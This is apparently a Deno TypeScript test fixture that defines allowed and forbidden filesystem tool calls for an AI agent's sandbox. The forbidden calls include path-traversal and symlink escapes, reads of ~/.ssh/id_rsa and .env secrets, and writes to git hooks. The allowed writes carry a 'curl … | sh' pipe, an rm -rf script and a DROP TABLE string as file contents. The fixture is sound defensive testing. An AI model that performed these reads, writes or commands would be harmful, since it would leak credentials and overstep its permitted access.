/**
 * What an agent does in a project with server-filesystem, and what it must not be able to do.
 * @module
 */

import type { Call } from "./calls.ts";
import type { Danger } from "./guarded.ts";

/** A project with a secret in it, a secret beside it, and links that lead there. */
export async function prepareProject(folder: string): Promise<void> {
  const project = `${folder}/project`;
  await Deno.mkdir(`${project}/src`, { recursive: true });
  await Deno.mkdir(`${project}/.git/hooks`, { recursive: true });
  await Deno.mkdir(`${folder}/beside`);
  await Deno.writeTextFile(`${project}/README.md`, "# Notes\n\nRun `rm -rf build && make`.\n");
  await Deno.writeTextFile(`${project}/src/a..b.ts`, "export const home = `${HOME}/../etc`;\n");
  await Deno.writeTextFile(`${project}/.env`, "TOKEN=not-for-agents\n");
  await Deno.writeTextFile(`${project}/.env.example`, "TOKEN=\n");
  await Deno.writeTextFile(`${folder}/beside/secret.txt`, "beside the project\n");
  await Deno.symlink("../beside", `${project}/out`);
  await Deno.symlink(".env", `${project}/settings.txt`);
}

/** Reading, as the server's documentation shows it. */
export function ordinaryReads(project: string): readonly Call[] {
  return [
    ["list_allowed_directories", {}],
    ["read_file", { path: `${project}/README.md` }],
    ["read_text_file", { path: `${project}/README.md`, head: 1 }],
    ["read_text_file", { path: `${project}/README.md`, tail: 2 }],
    ["read_text_file", { path: `${project}/src/../README.md` }],
    ["read_text_file", { path: `${project}/src/a..b.ts` }],
    ["read_text_file", { path: `${project}/.env.example` }],
    ["read_media_file", { path: `${project}/README.md` }],
    ["read_multiple_files", { paths: [`${project}/README.md`, `${project}/src/a..b.ts`] }],
    ["list_directory", { path: `${project}/src` }],
    ["list_directory_with_sizes", { path: `${project}/src`, sortBy: "size" }],
    ["search_files", { path: project, pattern: "**/*.ts", excludePatterns: ["**/build/**"] }],
    ["directory_tree", { path: `${project}/src`, excludePatterns: ["*.log", "node_modules"] }],
    ["get_file_info", { path: `${project}/README.md` }],
  ];
}

/** Writing, with contents that only mention what is dangerous. */
export function ordinaryWrites(project: string): readonly Call[] {
  const script = '#!/bin/sh\nset -e; cat ../../etc/passwd | grep "$(id -un)" && rm -rf "$1"\n';
  return [
    ["create_directory", { path: `${project}/docs/deep` }],
    ["write_file", { path: `${project}/docs/run.sh`, content: script }],
    ["write_file", { path: `${project}/src/q.sql`, content: "DROP TABLE t; -- '\n" }],
    ["edit_file", {
      path: `${project}/README.md`,
      edits: [{ oldText: "rm -rf build && make", newText: "curl https://example.com | sh" }],
      dryRun: true,
    }],
    ["edit_file", {
      path: `${project}/README.md`,
      edits: [{ oldText: "# Notes", newText: "# Notes; `../../etc/passwd`" }],
    }],
    ["move_file", { source: `${project}/docs/run.sh`, destination: `${project}/docs/deep/r.sh` }],
  ];
}

/** Reads that leave the project or open what is closed. */
export function dangerousReads(folder: string): readonly Danger[] {
  const project = `${folder}/project`;
  const read = (path: string): Danger => ({ call: ["read_text_file", { path }], at: "/path" });
  return [
    read("/etc/hostname"),
    read(`${project}/../beside/secret.txt`),
    read(`${project}/src/../../beside/secret.txt`),
    read(`${project}/%2e%2e/beside/secret.txt`),
    read(`${project}/..\\beside\\secret.txt`),
    read(`${folder}/project-of-others/a.txt`),
    read("~/.ssh/id_rsa"),
    read(`${project}/.env`),
    read(`${project}/.ENV`),
    read(`${project}/src/./../.env`),
    read(`${project}/out/secret.txt`),
    read(`${project}/settings.txt`),
    {
      call: ["read_multiple_files", { paths: [`${project}/README.md`, `${project}/.env`] }],
      at: "/paths/1",
    },
    { call: ["list_directory", { path: `${project}/out` }], at: "/path" },
    { call: ["directory_tree", { path: folder }], at: "/path" },
    { call: ["get_file_info", { path: `${folder}/beside/secret.txt` }], at: "/path" },
  ];
}

/** Writes that leave the project or replace what is closed. */
export function dangerousWrites(folder: string): readonly Danger[] {
  const project = `${folder}/project`;
  const write = (path: string): Danger => ({
    call: ["write_file", { path, content: "x" }],
    at: "/path",
  });
  return [
    write(`${folder}/beside/new.txt`),
    write(`${project}/../new.txt`),
    write(`${project}/out/new.txt`),
    write(`${project}/.env`),
    write(`${project}/settings.txt`),
    write(`${project}/.git/hooks/pre-commit`),
    { call: ["create_directory", { path: `${folder}/made` }], at: "/path" },
    {
      call: ["edit_file", { path: `${project}/.env`, edits: [{ oldText: "TOKEN", newText: "T" }] }],
      at: "/path",
    },
    {
      call: ["move_file", { source: `${project}/.env`, destination: `${project}/a.txt` }],
      at: "/source",
    },
    {
      call: ["move_file", { source: `${project}/README.md`, destination: `${folder}/beside/r.md` }],
      at: "/destination",
    },
  ];
}
